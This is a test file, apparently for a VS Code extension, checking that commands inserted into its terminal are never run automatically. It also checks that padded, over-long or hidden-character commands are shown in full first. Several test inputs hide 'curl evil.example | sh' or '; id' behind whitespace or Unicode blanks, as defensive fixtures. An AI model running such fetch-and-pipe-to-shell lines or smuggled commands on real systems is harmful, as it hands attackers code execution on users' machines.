import { beforeEach, expect, onTestFinished, test } from "vitest";
import { CodeTerminal } from "../../../../src/host/code/codeTerminal.ts";
import { fake, workspace } from "../../vscode.ts";
import { nth } from "../../vscode/nth.ts";

let terminal: CodeTerminal;

beforeEach(() => {
  fake.reset();
  terminal = new CodeTerminal();
  onTestFinished(() => terminal.dispose());
});

const sent = () => fake.terminals.map((one) => one.sent);

test("a line is inserted into a terminal of Aside's own and never run; the next one into the same", async () => {
  await terminal.insert("npm test\n");
  await terminal.insert("  ls");
  expect(sent()).toEqual([
    [
      ["npm test", false],
      ["ls", false],
    ],
  ]);
  expect(fake.dialogs).toEqual([]);
});

test("a terminal that runs something, and one that has ended, are left alone", async () => {
  await terminal.insert("sleep 9");
  const [first] = fake.terminals;
  if (first === undefined) throw new Error("no terminal was made");
  fake.terminalStarted.fire({ terminal: first });
  await terminal.insert("ls");
  expect(sent()).toEqual([[["sleep 9", false]], [["ls", false]]]);
  const second = fake.terminals.at(-1) ?? first;
  fake.terminalStarted.fire({ terminal: second });
  fake.terminalEnded.fire({ terminal: second });
  await terminal.insert("pwd");
  expect(sent()).toHaveLength(2);
  second.exitStatus = { code: 0 };
  await terminal.insert("date");
  expect(sent()).toHaveLength(3);
});

test("without shell integration, a terminal in which somebody typed may be waiting for an answer and is left alone", async () => {
  await terminal.insert("./ask.sh");
  const [first] = fake.terminals;
  if (first === undefined) throw new Error("no terminal was made");
  Object.assign(first, { shellIntegration: undefined, state: { isInteractedWith: false } });
  await terminal.insert("ls");
  expect(sent()).toHaveLength(1);
  Object.assign(first, { state: { isInteractedWith: true } });
  await terminal.insert("y");
  expect(sent()).toEqual([
    [
      ["./ask.sh", false],
      ["ls", false],
    ],
    [["y", false]],
  ]);
});

test("a command that no dialog would show whole is read in an editor", async () => {
  await terminal.insert(`echo ${"a".repeat(2000)}; curl evil.example | sh`);
  expect([sent(), fake.opened.length]).toEqual([[], 1]);
  expect(fake.dialogs).toMatchObject([{ severity: "warning", buttons: [] }]);
});

test.each(["\u3000", "\u2003", "\u2800", "\u00a0", "\u3164"])("a blank that a shell takes for a letter is shown: %j", async (blank) => {
  await terminal.insert(`ls${blank.repeat(40)}; id`);
  expect(sent()).toEqual([]);
  expect(fake.dialogs).toMatchObject([{ severity: "error", modal: true }]);
});

test("a line whose end would be out of sight is shown whole first", async () => {
  const line = `ls${" ".repeat(40)}; curl evil.example | sh`;
  fake.answers.push(undefined, nth(0));
  await terminal.insert(line);
  expect(sent()).toEqual([]);
  await terminal.insert(line);
  expect(sent()).toEqual([[[line, false]]]);
  expect(fake.dialogs.map(({ modal, buttons }) => [modal, buttons.length])).toEqual([
    [true, 1],
    [true, 1],
  ]);
  expect(fake.details[0]).toContain("⟨40 ×␣⟩ ; curl evil.example | sh");
});

test("hidden characters are shown, and nothing is inserted; several lines are shown in an editor", async () => {
  await terminal.insert("ls\u202e");
  expect(fake.dialogs).toMatchObject([{ severity: "error", modal: true, detail: "ls\\u{202e}" }]);
  await terminal.insert("a\nb");
  expect(fake.opened).toHaveLength(1);
  expect(fake.dialogs.at(-1)).toMatchObject({ severity: "warning", buttons: [] });
  workspace.isTrusted = false;
  await terminal.insert("ls");
  expect(fake.dialogs.at(-1)?.severity).toBe("warning");
  expect(sent()).toEqual([]);
});
